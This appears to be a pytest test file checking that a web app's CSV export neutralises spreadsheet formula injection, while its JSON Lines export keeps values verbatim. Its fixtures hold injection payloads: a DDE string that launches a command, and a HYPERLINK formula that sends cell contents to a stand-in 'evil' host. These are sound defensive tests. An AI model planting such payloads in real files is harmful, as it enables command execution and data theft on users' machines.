"""CSV and JSON Lines exports: every field, formula neutralisation (T32), deleted claims left out."""
import csv
import io
import json

import pytest

from webapp.exports.csv_export import neutralise
from webapp.services import claims as claim_service
from webapp.extensions import db
from tests.factories import PASSWORD, make_article, make_claim, make_project, make_user

TRIGGERS = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "\x00x",
            '=HYPERLINK("http://evil/?"&A1)']


@pytest.mark.parametrize("value", TRIGGERS)
def test_text_starting_with_a_formula_trigger_is_neutralised(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["a,=1+1", '"=1+1"', "26 killed", "", 26, 0])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


def _export(app, browser, fmt):
    with app.app_context():
        lead = make_user("lena")
        article = make_article(make_project(lead), lead,
                               "=cmd|' /C calc'!A0 said: 26 ISIS militants were killed. Others deny it.")
        make_claim(article, lead, "=cmd|' /C calc'!A0", statement="=HYPERLINK(\"http://evil\")",
                   figures="-5 soldiers", source_type="combatant", named="unnamed")
        gone = make_claim(article, lead, "Others deny it.", statement="deleted one")
        claim_service.delete_claim(gone, lead, 1)
        db.session.commit()
        project_id = article.project_id
    browser.login("lena", PASSWORD)
    return browser.get(f"/projects/{project_id}/export/claims.{fmt}")


def test_csv_export_neutralises_formulas_and_keeps_numbers(app, browser):
    response = _export(app, browser, "csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == 1  # the deleted claim is not exported
    row = rows[0]
    assert row["quote"] == "'=cmd|' /C calc'!A0"
    assert row["statement"] == "'=HYPERLINK(\"http://evil\")"
    assert row["figures"] == "'-5 soldiers"
    assert row["start"] == "0" and row["end"] == str(len("=cmd|' /C calc'!A0"))
    assert row["source_type"] == "Individual combatant" and row["named"] == "Unnamed / anonymous"
    assert row["admiralty_code"] == "F6" and row["created_by"] == "lena"


def test_jsonl_export_keeps_values_verbatim(app, browser):
    response = _export(app, browser, "jsonl")
    assert response.headers["Content-Type"] == "application/x-ndjson; charset=utf-8"
    [line] = response.get_data(as_text=True).splitlines()
    row = json.loads(line)
    assert row["quote"] == "=cmd|' /C calc'!A0"  # JSON is not a spreadsheet: no prefix
    assert row["start"] == 0 and isinstance(row["end"], int)
    assert row["evidence"] == [] and row["status"] == "unreviewed"


def test_unknown_export_format_is_404(app, browser):
    with app.app_context():
        project_id = make_project(make_user("lena")).id
    browser.login("lena", PASSWORD)
    assert browser.get(f"/projects/{project_id}/export/claims.exe").status_code == 404
